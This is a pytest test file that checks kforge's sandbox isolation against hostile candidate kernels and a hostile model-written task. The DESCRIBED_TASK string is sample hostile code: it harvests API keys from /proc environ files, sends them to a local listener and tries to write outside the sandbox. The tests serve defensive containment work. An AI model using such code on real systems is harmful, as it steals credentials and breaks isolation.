"""The sandbox holds by the kernel, as root and as an unprivileged user.

Two levels: the isolation mechanisms themselves (namespaces, a read-only filesystem, the bound on
a candidate's process tree and its memory, orphans dying with their namespace), and kforge end to
end with hostile candidates, a hostile model-written task and a reference that never returns,
with a provider key in kforge's environment and a listener on the host: every case gets its
verdict or exit 2, no key is readable, nothing reaches the listener or the host's files, and
nothing is left running."""
from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BINARY = os.path.abspath(os.environ.get("KFORGE_BINARY", os.path.join(REPO, "build", "kforge")))
CORPUS = os.path.join(REPO, "tests", "corpus")
RELU = os.path.join(REPO, "tasks", "level1", "01_relu.py")
HANGING = os.path.join(REPO, "python", "tests", "tasks", "hanging_reference.py")
KEY = "sk-kforge-test-secret-4d1f"
ESCAPE_MARKERS = "/var/tmp"

sys.path.insert(0, os.path.join(REPO, "python"))
from kforge_worker import isolation  # noqa: E402
from kforge_worker.zygote import SandboxConfig, Zygote  # noqa: E402

pytestmark = pytest.mark.skipif(not isolation.probe()["namespaces"], reason="this machine offers no user namespaces")


# -- the mechanisms ---------------------------------------------------------------------------

def _in_namespaces(work, *, writable: list[str] | None = None) -> tuple[int, dict]:
    """Runs `work()` as process 1 of fresh namespaces with a confined filesystem; returns the
    keeper's pid and what `work` returned (a dict, through a pipe)."""
    read_fd, write_fd = os.pipe()
    keeper = os.fork()
    if keeper == 0:
        os.close(read_fd)
        code = 0
        try:
            isolation.enter_namespaces(set())
            isolation.confine_filesystem(writable or [])
            os.write(write_fd, json.dumps(work()).encode())
        except BaseException as error:  # noqa: BLE001 - reported to the test
            os.write(write_fd, json.dumps({"error": repr(error)}).encode())
            code = 1
        finally:
            os._exit(code)
    os.close(write_fd)
    data = b""
    while chunk := os.read(read_fd, 65536):
        data += chunk
    os.close(read_fd)
    os.waitpid(keeper, 0)
    return keeper, json.loads(data or b"{}")


def test_filesystem_is_read_only_outside_the_private_folder_and_the_network_is_gone(tmp_path):
    private = tmp_path / "private"
    private.mkdir()
    outside = "/var/tmp/kforge-test-outside"

    def work() -> dict:
        seen = {}
        for path in (str(private / "ok"), outside, "/tmp/own-tmp", "/usr/local/kforge-planted"):
            try:
                with open(path, "w") as handle:
                    handle.write("x")
                seen[path] = "written"
            except OSError as error:
                seen[path] = error.strerror
        try:
            socket.create_connection(("127.0.0.1", 22), timeout=1)
            seen["network"] = "connected"
        except OSError as error:
            seen["network"] = error.strerror
        seen["processes"] = sorted(p for p in os.listdir("/proc") if p.isdigit())
        seen["pid"] = os.getpid()
        return seen

    _, seen = _in_namespaces(work, writable=[str(private)])
    assert seen[str(private / "ok")] == "written" and (private / "ok").exists()
    assert seen[outside] == "Read-only file system" and not os.path.exists(outside)
    assert seen["/usr/local/kforge-planted"] == "Read-only file system"
    assert seen["/tmp/own-tmp"] == "written" and not os.path.exists("/tmp/own-tmp")  # its own /tmp
    assert seen["network"] == "Network is unreachable"
    assert seen["pid"] == 1 and seen["processes"] == ["1"]  # its /proc shows only its namespace


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().split(")")[-1].split()[0] != "Z"
    except OSError:
        return False


def test_orphans_die_with_their_namespace():
    """A grandchild that made its own session (escaping a process-group kill) still dies when
    process 1 of its namespace ends."""
    go_r, go_w = os.pipe()
    keeper = os.fork()
    if keeper == 0:
        os.close(go_w)
        isolation.enter_namespaces(set())
        orphan = os.fork()
        if orphan == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    pass
            os._exit(0)
        os.read(go_r, 1)  # until the test has seen the tree
        os._exit(0)
    os.close(go_r)
    tree: list[int] = []
    deadline = time.time() + 10
    while time.time() < deadline and len(tree) < 2:
        tree = [p for p in isolation.descendants(keeper) if _alive(p)]
        time.sleep(0.05)
    assert len(tree) >= 2, tree  # process 1 and the spinning orphan
    os.write(go_w, b"x")
    os.close(go_w)
    os.waitpid(keeper, 0)
    deadline = time.time() + 5
    while time.time() < deadline and any(_alive(p) for p in tree):
        time.sleep(0.05)
    assert not any(_alive(p) for p in tree), [p for p in tree if _alive(p)]


def _tree(children: int, megabytes: int) -> int:
    """A process (leader of its own group) with `children` children that each touch `megabytes`."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        for _ in range(children):
            if os.fork() == 0:
                hoard = bytearray(megabytes << 20)
                for offset in range(0, len(hoard), 4096):
                    hoard[offset] = 1
                while True:
                    time.sleep(1)
        while True:
            time.sleep(1)
    return pid


def _zygote(max_processes: int) -> Zygote:
    zygote = Zygote("cpu")
    zygote.config = SandboxConfig(root=tempfile.mkdtemp(), env={}, user=None,
                                  max_file_bytes=1 << 30, max_processes=max_processes)
    return zygote


def test_memory_limit_counts_the_whole_process_tree():
    """Four children of 200 MiB each: no single process is over 600 MiB, the tree is."""
    pid = _tree(4, 200)
    ended = _zygote(100)._wait(pid, 60, 600 << 20, time.monotonic())
    assert ended["killed_for"] == "memory_limit", ended
    # Three children of 200 MiB and the interpreters' own pages are already over 600 MiB, so on a
    # loaded machine the tree may be killed before the fourth child runs; none of them is near
    # the limit alone, so it takes at least three processes to reach it.
    assert ended["peak_rss_bytes"] > 600 << 20 and ended["peak_processes"] >= 3


def test_process_count_is_bounded():
    pid = _tree(30, 1)
    ended = _zygote(10)._wait(pid, 60, 0, time.monotonic())
    assert ended["killed_for"] == "process_limit" and ended["peak_processes"] > 10, ended


# -- kforge end to end --------------------------------------------------------------------------

class Listener:
    """A TCP listener on the host's loopback that records whatever reaches it."""

    def __init__(self, port: int):
        self.received: list[bytes] = []
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("127.0.0.1", port))
        self.server.listen(8)
        self.server.settimeout(0.2)
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.server.close()


def _worker_processes(uid: int, since: float) -> list[str]:
    """kforge's worker processes of `uid` started after `since` (seconds since the epoch)."""
    boot = time.time() - float(open("/proc/uptime").read().split()[0])
    ticks = os.sysconf("SC_CLK_TCK")
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            if os.stat(f"/proc/{entry}").st_uid != uid:
                continue
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                command = handle.read().replace(b"\0", b" ").decode(errors="replace")
            with open(f"/proc/{entry}/stat") as handle:
                fields = handle.read().split(")")[-1].split()
            started = boot + int(fields[19]) / ticks
        except (OSError, ValueError, IndexError):
            continue
        if "kforge_worker" in command and started >= since - 1 and fields[0] != "Z":
            found.append(f"{entry}: {command}")
    return found


class Runner:
    """Runs kforge as the current user, or as `nobody` (through setpriv) from a copy of what it
    needs in a folder that user can read."""

    def __init__(self, root: str, as_nobody: bool):
        self.as_nobody = as_nobody
        self.root = root
        os.chmod(root, 0o755)
        if as_nobody:
            entry = pwd.getpwnam("nobody")
            self.uid, self.gid = entry.pw_uid, entry.pw_gid
            shutil.copy(BINARY, os.path.join(root, "kforge"))
            shutil.copytree(os.path.join(REPO, "python", "kforge_worker"), os.path.join(root, "python", "kforge_worker"),
                            ignore=shutil.ignore_patterns("__pycache__"))
            for folder in ("tasks", "tests/corpus/candidates", "python/tests/tasks"):
                shutil.copytree(os.path.join(REPO, folder), os.path.join(root, folder),
                                ignore=shutil.ignore_patterns("__pycache__"))
            for dirpath, dirnames, filenames in os.walk(root):
                for name in dirnames + filenames:
                    os.chmod(os.path.join(dirpath, name), 0o755)
            self.binary, self.base = os.path.join(root, "kforge"), root
            self.home = os.path.join(root, "home")
            os.makedirs(self.home)
            os.chown(self.home, self.uid, self.gid)
        else:
            self.uid, self.gid = os.getuid(), os.getgid()
            self.binary, self.base = BINARY, REPO
            self.home = os.path.join(root, "home")
            os.makedirs(self.home)

    def path(self, relative: str) -> str:
        return os.path.join(self.base, relative)

    def command(self, *args: str) -> list[str]:
        command = [self.binary, "--workspace", os.path.join(self.home, "ws"), "--device", "cpu", *args]
        if self.as_nobody:
            command = ["setpriv", f"--reuid={self.uid}", f"--regid={self.gid}", "--clear-groups"] + command
        return command

    def environment(self) -> dict[str, str]:
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": self.home, "OPENAI_API_KEY": KEY,
               "ANTHROPIC_API_KEY": KEY}
        python = os.environ.get("KFORGE_PYTHON") or ("/opt/kforge/venv/bin/python" if os.geteuid() == 0 else "")
        if python:
            env["KFORGE_PYTHON"] = python
        if os.environ.get("KFORGE_PYTHONPATH") and not self.as_nobody:
            env["KFORGE_PYTHONPATH"] = os.environ["KFORGE_PYTHONPATH"]
        return env

    def run(self, *args: str, timeout: float = 600) -> subprocess.CompletedProcess:
        return subprocess.run(self.command(*args), capture_output=True, text=True, timeout=timeout,
                              env=self.environment(), cwd=self.home)


def _runners() -> list[str]:
    kinds = ["current user"]
    if os.geteuid() == 0 and shutil.which("setpriv"):
        kinds.append("nobody")
    return kinds


@pytest.fixture(params=_runners())
def runner(request, tmp_path_factory):
    root = tempfile.mkdtemp(prefix="kforge-sandbox-test-", dir="/tmp")
    try:
        yield Runner(root, as_nobody=request.param == "nobody")
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _sandbox_entries() -> list[dict]:
    with open(os.path.join(CORPUS, "manifest.json"), encoding="utf-8") as handle:
        entries = json.load(handle)["candidates"]
    return [e for e in entries if os.path.basename(e["path"]).startswith("sandbox_") and not e.get("gpu_only")]


def _no_escape_markers() -> list[str]:
    return [name for name in os.listdir(ESCAPE_MARKERS) if name.startswith("kforge-escape")]


def _clear_escape_markers() -> None:
    for name in _no_escape_markers():
        shutil.rmtree(os.path.join(ESCAPE_MARKERS, name), ignore_errors=True)
        if os.path.exists(os.path.join(ESCAPE_MARKERS, name)):
            os.remove(os.path.join(ESCAPE_MARKERS, name))


def test_hostile_candidates_get_their_verdicts_and_nothing_escapes(runner):
    entries = _sandbox_entries()
    assert len(entries) >= 8
    _clear_escape_markers()
    listener = Listener(47811)
    started = time.time()
    try:
        honest = runner.path("tests/corpus/candidates/l1_01_relu/honest_relu.py")
        done = runner.run("--quiet", "eval", "--json", "--timeout", "30", "--memory-limit", "3",
                          runner.path("tasks/level1/01_relu.py"), honest,
                          *[runner.path(os.path.join("tests/corpus", e["path"])) for e in entries])
    finally:
        listener.close()
    results = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    assert len(results) == len(entries) + 1, done.stdout[-3000:] + done.stderr[-3000:]
    assert results[0]["verdict"] == "accepted", results[0]["message"]
    seen = results[0]["evidence"]["process"]["isolation_seen"]
    assert seen["own_namespaces"] == ["ipc", "mnt", "net", "pid", "user"] and seen["seccomp_mode"] == "2", seen
    assert int(seen["uid"]) == (pwd.getpwnam("nobody").pw_uid if os.geteuid() == 0 else os.getuid())
    for entry, result in zip(entries, results[1:]):
        assert result["verdict"] == entry["expect"], (entry["path"], result["message"])
    assert KEY not in done.stdout and KEY not in done.stderr
    assert listener.received == []
    assert _no_escape_markers() == []
    time.sleep(1)
    assert _worker_processes(runner.uid, started) == []
    sandbox = [os.path.join(r, d) for r, ds, _ in os.walk(os.path.join(runner.home, "ws")) for d in ds
               if d.startswith(("zygote-", "candidate-", "eval-"))]
    scratch = f"/dev/shm/kforge-{runner.uid}"
    if os.path.isdir(scratch):
        sandbox += [os.path.join(r, d) for r, ds, _ in os.walk(scratch) for d in ds
                    if d.startswith(("zygote-", "candidate-")) or d.startswith(f"eval-{os.getpid()}")]
    assert not [p for p in sandbox if os.path.getmtime(p) >= started], sandbox


DESCRIBED_TASK = '''
import os
import socket

import torch
import torch.nn as nn

found = []
for pid in ["self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            found += [item for item in handle.read().split(b"\\0") if b"KEY" in item]
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", 47812), timeout=2) as connection:
        connection.sendall(b"payload:" + b";".join(found))
except OSError:
    pass
for target in ("/var/tmp/kforge-escape-describe", os.path.join(os.getcwd(), "ws", "kforge.db")):
    try:
        with open(target, "ab") as handle:
            handle.write(b"escaped")
    except OSError:
        pass


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x)


def get_inputs():
    return [torch.randn(64, 64)]


def get_init_inputs():
    return []
'''


def test_a_model_written_task_reaches_neither_keys_nor_network(runner):
    """optimize --describe imports what the model wrote in the trusted worker: it runs with no
    network, a read-only filesystem outside the workspace, and no way to read kforge's
    environment."""
    _clear_escape_markers()
    cassette = os.path.join(runner.home, "cassette.jsonl")
    with open(cassette, "w") as handle:
        handle.write(json.dumps({"match": ["write the reference program"],
                                 "reply": "```python\n" + DESCRIBED_TASK + "```\n"}) + "\n")
    os.chmod(cassette, 0o644)
    out = os.path.join(runner.home, "out")
    listener = Listener(47812)
    try:
        done = runner.run("optimize", "--json", "--out", out, "--describe", "relu of a 64x64 matrix", "--llm",
                          f"replay:{cassette}", "--workers", "1", "--rounds", "1", timeout=900)
    finally:
        listener.close()
    assert os.path.exists(os.path.join(out, "relu_of_a_64x64_matrix.py")), done.stderr[-3000:]
    assert listener.received == [], listener.received
    assert _no_escape_markers() == []
    assert KEY not in done.stdout and KEY not in done.stderr
    store = os.path.join(runner.home, "ws", "kforge.db")
    with open(store, "rb") as handle:
        assert not handle.read().endswith(b"escaped")  # the store is outside what the worker may write
    assert runner.run("show").returncode == 0


def test_a_reference_that_never_returns_is_a_clear_error_and_leaves_nothing(runner):
    started = time.time()
    done = runner.run("eval", "--timeout", "5", runner.path("python/tests/tasks/hanging_reference.py"),
                      runner.path("tests/corpus/candidates/l1_01_relu/honest_relu.py"), timeout=300)
    took = time.time() - started
    assert done.returncode == 2, done.stdout[-2000:] + done.stderr[-2000:]
    assert "did not finish within" in done.stderr
    assert took < 120, took
    time.sleep(1)
    assert _worker_processes(runner.uid, started) == []


def test_killing_kforge_takes_its_busy_workers_down(runner):
    started = time.time()
    process = subprocess.Popen(runner.command("eval", "--timeout", "120",
                                              runner.path("python/tests/tasks/hanging_reference.py"),
                                              runner.path("tests/corpus/candidates/l1_01_relu/honest_relu.py")),
                               env=runner.environment(), cwd=runner.home, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    deadline = time.time() + 60
    while time.time() < deadline and len(_worker_processes(runner.uid, started)) < 1:
        time.sleep(0.2)
    time.sleep(3)  # the trusted worker is now spinning in the reference
    assert _worker_processes(runner.uid, started)
    kforge = process.pid
    if runner.as_nobody:  # setpriv execs kforge in place
        assert open(f"/proc/{kforge}/cmdline", "rb").read().split(b"\0")[0].endswith(b"kforge")
    # No process of the same user reads kforge's environment (it holds the keys).
    probe = ["python3", "-c", f"open('/proc/{kforge}/environ','rb').read(); print('read')"]
    if runner.as_nobody:
        probe = ["setpriv", f"--reuid={runner.uid}", f"--regid={runner.gid}", "--clear-groups"] + probe
    if runner.as_nobody or os.geteuid() != 0:
        readable = subprocess.run(probe, capture_output=True, text=True, timeout=30)
        assert "read" not in readable.stdout and "Permission denied" in readable.stderr, readable
    process.send_signal(signal.SIGKILL)
    process.wait()
    deadline = time.time() + 10
    while time.time() < deadline and _worker_processes(runner.uid, started):
        time.sleep(0.2)
    assert _worker_processes(runner.uid, started) == []


def test_without_user_namespaces_kforge_refuses_unless_told_it_may(tmp_path):
    """In a user namespace whose limit on nested ones is 0, no candidate can be isolated: kforge
    says what is missing and exits 2; --unsafe-no-isolation runs it anyway, with a warning."""
    if not shutil.which("unshare"):
        pytest.skip("no unshare(1)")
    def in_namespace(*flags: str) -> subprocess.CompletedProcess:
        command = " ".join([BINARY, "--workspace", str(tmp_path / "ws"), "--device", "cpu", *flags, "eval",
                            "--timeout", "30", RELU,
                            os.path.join(CORPUS, "candidates", "l1_01_relu", "honest_relu.py")])
        return subprocess.run(["unshare", "--user", "--map-root-user", "sh", "-c",
                               f"echo 0 > /proc/sys/user/max_user_namespaces && exec {command}"],
                              capture_output=True, text=True, timeout=300, env={**os.environ, "OPENAI_API_KEY": KEY})
    refused = in_namespace()
    assert refused.returncode == 2, refused.stdout[-2000:] + refused.stderr[-2000:]
    assert "cannot isolate candidate processes" in refused.stderr and "--unsafe-no-isolation" in refused.stderr
    assert "verdict" not in refused.stdout  # refused before anything was evaluated or stored
    allowed = in_namespace("--unsafe-no-isolation")
    assert allowed.returncode == 0, allowed.stdout[-2000:] + allowed.stderr[-2000:]
    assert "WITHOUT isolation" in allowed.stderr


def test_a_fresh_interpreter_per_candidate_is_isolated_the_same(tmp_path):
    """--isolation spawn: the new interpreter enters its namespaces before it imports torch (which
    starts threads, and a process with threads cannot unshare a user namespace)."""
    done = subprocess.run([BINARY, "--quiet", "--workspace", str(tmp_path / "ws"), "--device", "cpu", "--isolation",
                           "spawn", "eval", "--json", "--timeout", "60", RELU,
                           os.path.join(CORPUS, "candidates", "l1_01_relu", "honest_relu.py"),
                           os.path.join(CORPUS, "candidates", "l1_01_relu", "sandbox_socket_connect_hidden.py")],
                          capture_output=True, text=True, timeout=600)
    results = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    assert [r["verdict"] for r in results] == ["accepted", "rejected_hack(sandbox)"], done.stderr[-3000:]
    for result in results:
        seen = result["evidence"]["process"]["isolation_seen"]
        assert seen["own_namespaces"] == ["ipc", "mnt", "net", "pid", "user"] and seen["seccomp_mode"] == "2"
